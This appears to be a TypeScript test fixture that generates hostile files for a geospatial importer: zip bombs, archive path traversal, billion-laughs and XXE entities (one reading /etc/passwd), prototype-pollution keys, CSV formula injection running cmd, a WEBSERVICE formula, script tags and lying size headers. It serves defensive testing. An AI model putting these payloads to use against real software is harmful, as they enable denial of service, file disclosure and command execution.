/** Files made to hurt whoever opens them: bombs, ways out of an archive, names that are code, sizes that are lies. */
import { deflateRawSync } from "node:zlib";
import { strToU8, zipSync } from "fflate";
import { writeTiff } from "../../../support/write-tiff.ts";
import { utf8 } from "../../bad-data.ts";
import { geojsonOf } from "../../vector/shape-texts.ts";
import { writeDbf, writeShapefile } from "../../vector/write-shapefile.ts";
import { writeXlsx } from "../../workbook/write-xlsx.ts";
import type { BroughtFile } from "./sound-files.ts";

export interface HostileFile {
  readonly what: string;
  readonly files: readonly BroughtFile[];
  /** Whether it must be refused; else it may be read, without harm. */
  readonly isRefused: boolean;
}

const LAUGHS = `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">${Array.from("bcdefghij", (letter, at) => `<!ENTITY ${letter} "${`&${"abcdefghi"[at]};`.repeat(10)}">`).join("")}]>`;
/** 256 MB of nothing, as the body of an entry. */
const ZEROS = new Uint8Array(deflateRawSync(new Uint8Array(256 * 2 ** 20)));

/** A zip of one entry whose body is packed already, `size` bytes unpacked. */
function zipOfPacked(name: string, body: Uint8Array, size: number): Uint8Array {
  const letters = utf8(name);
  const fields = [2048, 8, 0, 0, 0, 0, body.length & 0xffff, body.length >>> 16, size & 0xffff, size >>> 16];
  const local = [0x4b50, 0x0403, 20, ...fields, letters.length, 0];
  const central = [0x4b50, 0x0201, 20, 20, ...fields, letters.length, 0, 0, 0, 0, 0, 0, 0, 0];
  const words = (values: readonly number[]): Uint8Array => new Uint8Array(Uint16Array.from(values).buffer);
  const start = 30 + letters.length + body.length;
  const length = 46 + letters.length;
  const end = [0x4b50, 0x0605, 0, 0, 1, 1, length, 0, start & 0xffff, start >>> 16, 0];
  return Uint8Array.from([...words(local), ...letters, ...body, ...words(central), ...letters, ...words(end)]);
}

/** A zip whose directory says that its one entry is of any size. */
function withSize(archive: Uint8Array, size: number): Uint8Array {
  const changed = archive.slice();
  const view = new DataView(changed.buffer);
  for (let at = 0; at + 4 < changed.length; at++) {
    const mark = view.getUint32(at, true);
    if (mark === 0x02014b50) view.setUint32(at + 24, size, true);
    if (mark === 0x04034b50) view.setUint32(at + 22, size, true);
  }
  return changed;
}

function withWord(bytes: Uint8Array, at: number, value: number, isLittle: boolean): Uint8Array {
  const changed = bytes.slice();
  new DataView(changed.buffer).setUint32(at, value, isLittle);
  return changed;
}

/** A little-endian TIFF that says it is a square of that side. */
function withTiffSize(bytes: Uint8Array, side: number): Uint8Array {
  const changed = bytes.slice();
  const view = new DataView(changed.buffer);
  const directory = view.getUint32(4, true);
  for (let entry = 0; entry < view.getUint16(directory, true); entry++) {
    const at = directory + 2 + 12 * entry;
    if (![256, 257].includes(view.getUint16(at, true))) continue;
    view.setUint16(at + 2, 4, true);
    view.setUint32(at + 8, side, true);
  }
  return changed;
}

const POINTS = Array.from({ length: 3 }, (_, row) => ({
  geometry: { type: "Point" as const, coordinates: [113.002 + 0.001 * row, 40.001] as const },
  properties: { name: `诊所${row}` },
}));
const FIELDS = [{ name: "name", type: "C", length: 20 }] as const;
const encode = utf8;

function one(what: string, name: string, bytes: Uint8Array, isRefused: boolean): HostileFile {
  return { what, files: [{ name, bytes }], isRefused };
}

export function createHostileFiles(): readonly HostileFile[] {
  const shapes = writeShapefile(POINTS, FIELDS, { encode });
  const zipped = zipSync({ "a.shp": shapes.shp, "a.shx": shapes.shx, "a.dbf": shapes.dbf });
  const bomb = (name: string): Uint8Array => zipOfPacked(name, ZEROS, 256 * 2 ** 20);
  const polluting = '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"name":"a"}';
  const point = '{"type":"Point","coordinates":[113.002,40.001]}';
  const collection = (properties: string): string =>
    `{"type":"FeatureCollection","__proto__":{"polluted":true},"features":[{"type":"Feature","properties":${properties},"geometry":${point}}]}`;
  const rows = (header: string, cell: string): string => `${header}\n1,113.002,40.001,${cell}\n`;
  const depth = 200_000;
  return [
    one("a bomb for a shapefile", "clinic.zip", bomb("a.shp"), true),
    one("a bomb for a KMZ", "clinic.kmz", bomb("doc.kml"), true),
    one("a bomb for a study", "town.mscircle", bomb("manifest.json"), true),
    one("a bomb for a workbook", "clinic.xlsx", bomb("xl/worksheets/sheet1.xml"), true),
    one("an archive that says it holds 4 GB", "clinic.zip", withSize(zipped, 0xfffffff0), true),
    one("an archive that says it holds nothing", "clinic.zip", withSize(zipped, 0), true),
    one(
      "an archive with a way up",
      "clinic.zip",
      zipSync({ "../../clinic.geojson": strToU8(geojsonOf(POINTS)) }),
      true,
    ),
    one("an archive with a root", "clinic.zip", zipSync({ "/etc/clinic.geojson": strToU8(geojsonOf(POINTS)) }), true),
    one("an archive in an archive", "clinic.zip", zipSync({ "inner.zip": bomb("a.shp") }), true),
    one(
      "laughs in a KML",
      "clinic.kml",
      utf8(`${LAUGHS}<kml><Document><Placemark><name>&j;</name></Placemark></Document></kml>`),
      true,
    ),
    one(
      "laughs in OSM XML",
      "town.osm",
      utf8(`${LAUGHS}<osm version="0.6"><node id="1" lat="40" lon="113"><tag k="name" v="&j;"/></node></osm>`),
      true,
    ),
    one(
      "laughs in a workbook",
      "clinic.xlsx",
      writeXlsx({
        sheets: [
          {
            name: "a",
            rows: [],
            part: `${LAUGHS}<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&j;</t></is></c></row></sheetData></worksheet>`,
          },
        ],
      }),
      true,
    ),
    one(
      "an entity that asks for a file",
      "clinic.kml",
      utf8(
        `<!DOCTYPE k [<!ENTITY x SYSTEM "file:///etc/passwd">]><kml><Document><Placemark><name>&x;</name><Point><coordinates>113.002,40.001</coordinates></Point></Placemark></Document></kml>`,
      ),
      false,
    ),
    one("keys of prototypes in GeoJSON", "clinic.geojson", utf8(collection(polluting)), false),
    one("headers of prototypes in CSV", "clinic.csv", utf8(rows("id,lon,lat,__proto__", "x")), false),
    one(
      "headers of methods in CSV",
      "clinic.csv",
      utf8("constructor,lon,lat,hasOwnProperty,toString\n1,113.002,40.001,a,b\n"),
      false,
    ),
    one(
      "headers of prototypes in a workbook",
      "clinic.xlsx",
      writeXlsx({
        sheets: [
          {
            name: "__proto__",
            rows: [
              ["编号", "经度", "纬度", "__proto__", "constructor"],
              [1, 113.002, 40.001, "a", "b"],
              [2, 113.003, 40.001, "a", "b"],
            ],
          },
        ],
      }),
      false,
    ),
    {
      what: "fields of prototypes in a shapefile",
      files: [
        { name: "clinic.shp", bytes: shapes.shp },
        {
          name: "clinic.dbf",
          bytes: writeDbf([{ __proto__x: 1 }, {}, {}], [{ name: "__proto__", type: "C", length: 8 }], { encode }),
        },
      ],
      isRefused: false,
    },
    one(
      "ids of prototypes",
      "clinic.csv",
      utf8("id,lon,lat\n__proto__,113.002,40.001\nconstructor,113.003,40.001\n"),
      false,
    ),
    one("a file that is called as a prototype", "__proto__", utf8(rows("id,lon,lat,name", "a")), false),
    one("formulas in cells", "clinic.csv", utf8(rows("id,lon,lat,name", "\"=cmd|' /C calc'!A0\"")), false),
    one(
      "a formula without a value in a workbook",
      "clinic.xlsx",
      writeXlsx({
        sheets: [
          {
            name: "a",
            rows: [
              ["编号", "经度", "纬度"],
              [{ xml: '<c r="A2"><f>WEBSERVICE("http://a.example")</f></c>' }, 113.002, 40.001],
              [2, 113.003, 40.001],
            ],
          },
        ],
      }),
      false,
    ),
    one("script in names", "clinic.csv", utf8(rows("id,lon,lat,name", "<script>alert(1)</script>")), false),
    one("shapes that say they are 4 GB", "clinic.shp", withWord(shapes.shp, 24, 0x7fffffff, false), true),
    one("a record that says it is 4 GB", "clinic.shp", withWord(shapes.shp, 104, 0x7fffffff, false), true),
    one("a table of 4 billion rows", "clinic.dbf", withWord(shapes.dbf, 4, 0xffffffff, true), true),
    one(
      "a raster of 10 billion cells",
      "people.tif",
      withTiffSize(writeTiff({ width: 2, height: 2, values: [1, 2, 3, 4] }), 100_000),
      true,
    ),
    one(
      "a blob of 2 GB in a PBF",
      "town.osm.pbf",
      Uint8Array.from([0, 0, 0, 14, 0x0a, 9, ...utf8("OSMHeader"), 0x18, 0xff, 0xff, 0xff, 0xff, 7]),
      true,
    ),
    one(
      "a FlatGeobuf of 2^53 features",
      "clinic.fgb",
      Uint8Array.from([0x66, 0x67, 0x62, 3, 0x66, 0x67, 0x62, 1, 0xff, 0xff, 0xff, 0x7f, ...new Uint8Array(64)]),
      true,
    ),
    one(
      "GeoJSON nested without end",
      "clinic.geojson",
      utf8(`{"type":"FeatureCollection","features":${"[".repeat(depth)}${"]".repeat(depth)}}`),
      true,
    ),
    one(
      "XML nested without end",
      "clinic.kml",
      utf8(`<kml>${"<Folder>".repeat(depth)}${"</Folder>".repeat(depth)}</kml>`),
      true,
    ),
    one(
      "a header of half a million columns",
      "clinic.csv",
      utf8(`${Array.from({ length: 500_000 }, (_, column) => `c${column}`).join(",")}\n1,2\n`),
      true,
    ),
    one("a cell of 30 MB", "clinic.csv", utf8(rows("id,lon,lat,name", "名".repeat(10_000_000))), false),
    one(
      "an open quote before 20 MB",
      "clinic.csv",
      utf8(`id,lon,lat,name\n1,113.002,40.001,"${"a,b\n".repeat(5_000_000)}`),
      true,
    ),
    one(
      "coordinates that are no numbers",
      "clinic.geojson",
      utf8(
        '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{},"geometry":{"type":"Point","coordinates":[1e999,-1e999]}}]}',
      ),
      true,
    ),
    one(
      "coordinates that are objects",
      "clinic.geojson",
      utf8(
        '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{},"geometry":{"type":"Polygon","coordinates":{"length":4294967295}}}]}',
      ),
      true,
    ),
  ];
}

const STARTS: readonly (readonly [name: string, start: readonly number[]])[] = [
  ["a.zip", [0x50, 0x4b, 3, 4]],
  ["a.kmz", [0x50, 0x4b, 3, 4]],
  ["a.mscircle", [0x50, 0x4b, 3, 4]],
  ["a.xlsx", [0x50, 0x4b, 3, 4]],
  ["a.shp", [0, 0, 0x27, 0x0a]],
  ["a.dbf", [3, 126, 1, 31]],
  ["a.fgb", [0x66, 0x67, 0x62, 3, 0x66, 0x67, 0x62, 1]],
  ["a.gpkg", [...utf8("SQLite format 3"), 0]],
  ["a.tif", [0x49, 0x49, 0x2a, 0]],
  ["a.osm.pbf", [0, 0, 0, 13, 0x0a, 9, ...utf8("OSMHeader"), 0x18]],
  ["a.osm", [...utf8('<?xml version="1.0"?><osm version="0.6">')]],
  ["a.kml", [...utf8("<kml><Document>")]],
  ["a.geojson", [...utf8('{"type":"FeatureCollection","features":[')]],
  ["a.tab", [...utf8("!table\n!version 300\n")]],
  ["a.mif", [...utf8("VERSION 300\nCharset ")]],
  ["a.dxf", [...utf8("0\nSECTION\n2\nENTITIES\n")]],
  ["a.csv", []],
  ["plan.json", [...utf8('{"targets":[')]],
  ["a.gdb/a00000001.gdbtable", [3, 0, 0, 0]],
];

/** Each format's first bytes, then noise. */
export function createGarbage(random: () => number): readonly BroughtFile[] {
  return STARTS.map(([name, start]) => {
    const noise = Array.from({ length: 200 + Math.floor(3000 * random()) }, () => Math.floor(256 * random()));
    return { name, bytes: Uint8Array.from([...start, ...noise]) };
  });
}
